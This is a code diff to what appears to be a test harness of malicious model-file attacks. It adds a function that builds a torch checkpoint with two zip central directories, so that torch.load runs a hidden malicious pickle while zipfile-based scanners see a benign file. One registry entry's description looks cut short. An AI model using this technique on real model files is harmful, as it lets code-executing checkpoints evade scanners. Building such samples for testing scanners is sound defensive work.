@@ -215,18 +215,34 @@ def fan_out(marker: Path, references: int = 100_000) -> bytes:
     return bytes(ops)
 
 
+def _end_record(data: bytes) -> tuple[int, int, int]:
+    """(central directory offset, its size, end record offset) of a zip without a comment."""
+    end = data.rindex(b"PK\x05\x06")
+    size, offset = struct.unpack("<II", data[end + 12 : end + 20])
+    return offset, size, end
+
+
 def torch_zip_two_directories(marker: Path) -> bytes:
-    """A torch-like zip with bytes inserted before its central directory and the end record's
-    offset left as it was: torch's reader (miniz) reads a directory at the given offset, zipfile
-    the one right before the end record (shifting every member offset)."""
-    del marker
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("archive/data.pkl", b"\x80\x02}q\x00.")
-        archive.writestr("archive/version", b"3\n")
-    data = buffer.getvalue()
-    directory = data.index(b"PK\x01\x02")
-    return data[:directory] + b"\x00" * 64 + data[directory:]
+    """Two torch checkpoints in one file, one end record. The record gives the offset of the
+    first (malicious) central directory, which torch's reader (miniz) takes as it is; zipfile
+    takes the directory right before the record (the second, benign one) and shifts the member
+    offsets by the difference, which the second directory's offsets are written to expect."""
+    import pickle
+
+    evil = torch_zip_with_data_pkl(b"\x80\x02" + payload0(marker)[:-1] + b"0}.")
+    benign = torch_zip_with_data_pkl(pickle.dumps({}, protocol=2))
+    evil_cd, _, evil_end = _end_record(evil)
+    benign_cd, benign_size, benign_end = _end_record(benign)
+    directory = bytearray(benign[benign_cd : benign_cd + benign_size])
+    position = 0
+    while position < len(directory):
+        name, extra, comment = struct.unpack("<HHH", directory[position + 28 : position + 34])
+        offset = struct.unpack("<I", directory[position + 42 : position + 46])[0]
+        directory[position + 42 : position + 46] = struct.pack("<I", offset + evil_cd - benign_cd)
+        position += 46 + name + extra + comment
+    record = bytearray(benign[benign_end : benign_end + 22])
+    record[16:20] = struct.pack("<I", evil_cd)
+    return evil[:evil_end] + benign[:benign_cd] + bytes(directory) + bytes(record)
 
 
 ATTACKS: list[LoaderAttack] = [
@@ -248,4 +264,7 @@ ATTACKS: list[LoaderAttack] = [
     LoaderAttack("joblib-dtype-by-name", "model.joblib", "joblib.load", joblib_dtype_by_name, "builtins.exec"),
     LoaderAttack("joblib-array-as-opcodes", "model.joblib", "pickle.load", joblib_array_as_opcodes, "builtins.exec"),
     LoaderAttack("nested-fan-out", "cache.pkl", "pickle.load", fan_out, "pickle.loads"),
+    LoaderAttack(
+        "torch-zip-two-directories", "model.pt", "torch.load", torch_zip_two_directories, "torch.load reads the one"
+    ),
 ]
